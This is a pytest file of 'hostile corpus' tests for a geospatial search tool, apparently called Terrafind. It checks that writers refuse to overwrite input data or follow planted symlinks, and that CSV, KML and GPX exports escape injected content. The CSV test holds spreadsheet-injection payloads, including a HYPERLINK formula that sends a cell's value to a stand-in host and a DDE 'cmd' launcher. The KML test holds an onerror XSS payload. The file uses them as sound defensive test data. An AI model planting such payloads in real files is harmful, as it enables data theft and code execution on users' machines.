"""Hostile corpus, outputs: inputs are never outputs, and no writer follows a planted link.

Each kind: one sentence (InputError in the app's terms, exit 2 from the CLI), and the files that were
there before (the data, the pack in use, a file of another kind, a link's target) are byte for byte
unchanged.
"""

from __future__ import annotations

import hashlib
import json
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest

from terrafind.core.errors import InputError

AT = "-75.90,37.30"


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def cli(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "terrafind.core.cli.main", *args], capture_output=True, text=True, timeout=180
    )


def refused(run: subprocess.CompletedProcess, words: str) -> None:
    assert run.returncode == 2 and "Traceback" not in run.stderr, run.stderr
    lines = [line for line in run.stderr.strip().splitlines() if line.strip()]
    assert len(lines) == 1 and words in lines[0], run.stderr


@pytest.fixture
def data(tmp_path):
    from synth import write_earth_index

    return write_earth_index(tmp_path / "data.parquet", n=200, d=16)["path"]


@pytest.fixture
def session(data):
    from terrafind.core.session import Session

    s = Session.open([data])
    s.set_example(0, "positive")
    s.run_search()
    return s


# --- kind 14: an export named like the data, or over it ---------------------------------------------------
def test_kind14_exports_never_replace_the_data(session, data, tmp_path):
    from terrafind.core.export.formats import name_for

    before = digest(data)
    with pytest.raises(InputError, match="does not end in .gpx"):
        session.export_hits(data, "gpx")  # the bug: GPX (or GeoJSON) written over data.parquet
    assert name_for(data, "gpx").endswith("data.parquet.gpx")  # what the save dialog turns it into
    alias = tmp_path / "same-data.geojson"
    alias.symlink_to(data)
    with pytest.raises(InputError, match="open in Terrafind"):
        session.export_hits(alias)  # a link that leads to the open data is the open data
    disguised = tmp_path / "field.gpx"
    disguised.write_bytes(data.read_bytes())  # a GeoParquet file under a GPX name
    with pytest.raises(InputError, match="GeoParquet"):
        session.export_hits(disguised)
    assert digest(data) == before and digest(disguised) == before
    refused(cli("search", str(data), "--at", AT, "--out", str(data)), "cannot write data.parquet")
    refused(cli("search", str(data), "--at", AT, "--out", str(disguised)), "GeoParquet")
    assert digest(data) == before
    out = tmp_path / "hits.geojson"  # and afterwards a normal export still works
    assert session.export_hits(out)[0] == out and json.loads(out.read_text())["features"]


# --- kind 15: a field pack written over the pack in use, or over the data's folder ------------------------
def test_kind15_packs_never_replace_the_pack_in_use(data, tmp_path):
    from terrafind.core.outputs import free_pack_folder
    from terrafind.core.pack.build import build_pack
    from terrafind.core.session import Session
    from terrafind.core.types import Region

    region = Region.from_bbox(-75.95, 37.25, -75.75, 37.45)
    pack = build_pack([data], region, tmp_path / "data-pack")
    in_use = Session.open([pack])
    before = {p.name: digest(p) for p in pack.rglob("*") if p.is_file()}
    with pytest.raises(InputError, match="holds the open data|field pack in use"):
        build_pack(in_use.data_files(), region, pack, protected=in_use.protected_paths())
    with pytest.raises(InputError, match="holds the open data"):
        build_pack([data], region, tmp_path)  # the folder of the inputs themselves
    # the app's proposal: never the pack in use, never inside it, always a new folder
    proposal = free_pack_folder(tmp_path, pack.name, in_use.protected_paths())
    assert proposal == tmp_path / "data-pack-2"
    with pytest.raises(InputError, match="cannot hold a new field pack"):
        free_pack_folder(pack, "data", in_use.protected_paths())
    refused(
        cli(
            "pack",
            str(pack / "embeddings" / "data.parquet"),
            "--bbox=-75.95,37.25,-75.75,37.45",
            "--out",
            str(pack),
        ),
        "holds the open data",
    )
    other = tmp_path / "notes"
    other.mkdir()
    (other / "my-notes.txt").write_text("mine")
    refused(
        cli("pack", str(data), "--bbox=-75.95,37.25,-75.75,37.45", "--out", str(other)),
        "already holds other files",
    )
    after = {p.name: digest(p) for p in pack.rglob("*") if p.is_file()}
    assert after == before and (other / "my-notes.txt").read_text() == "mine"


# --- kind 16: embeddings written over an image, the data or a file of another kind ------------------------
def _cog(path: Path) -> Path:
    sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "core"))
    from imagery_synth import write_cog

    return write_cog(path, (-75.70, 37.60, -75.66, 37.63), res=20.0)


def test_kind16_embeddings_never_replace_images_or_other_files(tmp_path, data):
    from terrafind.core.embed.embedder import embed_images

    image = _cog(tmp_path / "scene.tif")
    before = digest(image)
    with pytest.raises(InputError, match=r"does not end in \.parquet"):
        embed_images([image], image)
    fake = tmp_path / "scene.parquet"
    fake.write_bytes(image.read_bytes())  # an image under a GeoParquet name
    with pytest.raises(InputError, match="image"):
        embed_images([image], fake)
    with pytest.raises(InputError, match="open in Terrafind"):
        embed_images([image], data, protected=[data])
    refused(cli("embed", str(image), "--out", str(image)), "does not end in .parquet")
    assert digest(image) == before and digest(fake) == before


# --- kind 17: a project saved over something that is not a project ----------------------------------------
def test_kind17_projects_never_replace_other_files(session, data, tmp_path):
    from terrafind.core.project import load_project, save_project

    notes = tmp_path / "notes.terrafind"
    notes.write_text("my field notes, not a project")
    with pytest.raises(InputError, match="text file"):
        save_project(session.to_project(), notes)
    saved = save_project(session.to_project(), tmp_path / "mine.terrafind")
    assert load_project(saved).sources and notes.read_text() == "my field notes, not a project"


# --- kind 18: links planted at a target and at temporary names --------------------------------------------
@pytest.mark.parametrize(
    "writer",
    ["export", "csv", "gpkg", "project", "settings", "network", "subset", "embeddings", "basemap", "thumbs"],
)
def test_kind18_no_writer_follows_a_planted_link(writer, session, data, tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    out = {
        "export": tmp_path / "hits.geojson",
        "csv": tmp_path / "hits.csv",
        "gpkg": tmp_path / "hits.gpkg",
        "project": tmp_path / "p.terrafind",
        "subset": tmp_path / "sub.parquet",
        "embeddings": tmp_path / "emb.parquet",
        "basemap": tmp_path / "b.mbtiles",
    }.get(writer)
    if writer == "settings":
        from terrafind.core.imagery.settings import settings_path

        out = settings_path()
    if writer == "network":
        from terrafind.core.net.gate import settings_path as net_path

        out = net_path()
    if writer == "thumbs":
        out = tmp_path / "t.sqlite"
    out.parent.mkdir(parents=True, exist_ok=True)
    names = [
        out,
        out.with_name(out.name + ".tmp"),
        out.with_name(out.name + ".partial"),
        out.with_name("." + out.name + ".tmp"),
    ]
    names += [out.with_name(out.name + x) for x in ("-wal", "-shm", "-journal", ".partial-journal")]
    for name in names:
        name.symlink_to(victim)
    if writer in ("export", "csv", "gpkg"):
        session.export_hits(out)
    elif writer == "project":
        from terrafind.core.project import save_project

        save_project(session.to_project(), out)
    elif writer == "settings":
        from terrafind.core.imagery.settings import set_imagery_for

        set_imagery_for([data], str(tmp_path))
    elif writer == "network":
        from terrafind.core.net.gate import gate

        gate().allow("https://example.org", "x")
    elif writer == "subset":
        from terrafind.core.pack.subset import write_region_subset
        from terrafind.core.types import Region

        write_region_subset(data, Region.from_bbox(-75.95, 37.25, -75.75, 37.45), out)
    elif writer == "embeddings":
        from terrafind.core.embed.embedder import embed_images

        embed_images([_cog(tmp_path / "scene.tif")], out)
    elif writer == "basemap":
        from terrafind.core.imagery.basemap import build_mbtiles

        build_mbtiles([_cog(tmp_path / "scene.tif")], out, max_zoom=12)
    elif writer == "thumbs":
        from terrafind.core.imagery.thumb_cache import ThumbCache

        cache = ThumbCache(out)
        cache.put("k", b"png", "ok")
        cache.close()
    assert victim.read_text() == "precious"  # never written through a link
    assert out.is_file() and not out.is_symlink()
    assert np.isfinite(out.stat().st_size)


# --- kind 34: text a spreadsheet would run (CSV injection) -------------------------------------------------
def test_kind34_csv_cells_are_spreadsheet_safe(tmp_path):
    import csv

    import pyarrow as pa
    import pyarrow.parquet as pq
    from synth import write_earth_index

    path = write_earth_index(tmp_path / "data.parquet", n=80, d=8)["path"]
    table = pq.read_table(path)
    evil = [
        '=HYPERLINK("http://x.example/?"&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\tx",
        "\rx",
    ]
    ids = [evil[i % len(evil)] + f"#{i}" for i in range(table.num_rows)]
    table = table.set_column(table.schema.get_field_index("id"), "id", pa.array(ids))
    pq.write_table(table.append_column("note", pa.array(ids)), path)
    out = tmp_path / "hits.csv"
    run = cli("search", str(path), "--at", AT, "-k", "80", "--out", str(out))
    assert run.returncode == 0, run.stderr
    with open(out, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert rows
    for row in rows:
        for key in ("id", "note"):
            assert not row[key].startswith(("=", "+", "-", "@", "\t", "\r")), row[key]
        assert float(row["lon"]) < 0  # a western longitude stays a number


# --- kind 37: markup in ids that Google Earth would render from a KML ----------------------------------------
def test_kind37_kml_carries_data_as_text_not_html(tmp_path):
    import xml.etree.ElementTree as ET

    import pyarrow as pa
    import pyarrow.parquet as pq
    from synth import write_earth_index

    path = write_earth_index(tmp_path / "data.parquet", n=40, d=8)["path"]
    table = pq.read_table(path)
    ids = [f"<img src=x onerror=alert({i})>&amp;" for i in range(table.num_rows)]
    pq.write_table(table.set_column(table.schema.get_field_index("id"), "id", pa.array(ids)), path)
    out = tmp_path / "hits.kml"
    run = cli("search", str(path), "--at", AT, "-k", "40", "--out", str(out))
    assert run.returncode == 0, run.stderr
    ns = {"k": "http://www.opengis.net/kml/2.2"}
    root = ET.parse(out).getroot()
    shown = [e.text or "" for e in root.iterfind(".//k:Placemark/k:description", ns)]
    shown += [e.text or "" for e in root.iterfind(".//k:Placemark/k:ExtendedData/k:Data/k:value", ns)]
    assert shown and any("onerror" in t for t in shown)
    # What Google Earth reads as HTML holds no tag and no entity it would decode into one.
    assert not any("<" in t or ">" in t for t in shown)
    assert any("&lt;img src=x onerror=alert(" in t and "&amp;amp;" in t for t in shown)
    gpx = tmp_path / "hits.gpx"  # the same for phones (OsmAnd shows a description as HTML)
    assert cli("search", str(path), "--at", AT, "-k", "40", "--out", str(gpx)).returncode == 0
    g = {"g": "http://www.topografix.com/GPX/1/1"}
    texts = [e.text or "" for e in ET.parse(gpx).getroot().iterfind(".//g:wpt/g:desc", g)]
    texts += [e.text or "" for e in ET.parse(gpx).getroot().iterfind(".//g:wpt/g:cmt", g)]
    assert texts and any("onerror" in t for t in texts) and not any("<" in t for t in texts)
